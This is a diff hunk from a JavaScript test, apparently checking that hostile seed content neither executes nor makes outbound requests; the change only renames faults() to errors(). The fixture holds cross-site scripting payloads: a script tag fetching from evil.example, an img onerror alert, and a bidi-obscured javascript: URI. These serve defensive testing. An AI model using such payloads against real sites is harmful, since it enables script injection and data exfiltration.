@@ -340,7 +340,7 @@ test('nothing that a seed says runs or is asked for', { skip }, async (t) => {
   const seed = new SeedCopy(t)
   const hostile = `"'><script>document.title='ran';fetch('https://evil.example/x')</script><img src=https://evil.example/i onerror="alert(1)">\u202e\u2066javascript:alert(2)`
   makeHostile(seed, hostile)
-  t.same(seed.faults(), [], 'the seed is a right one')
+  t.same(seed.errors(), [], 'the seed is a right one')
   const service = await startService({ seed: seed.folder })
   t.teardown(service.close)
   const context = await openBrowser(t)
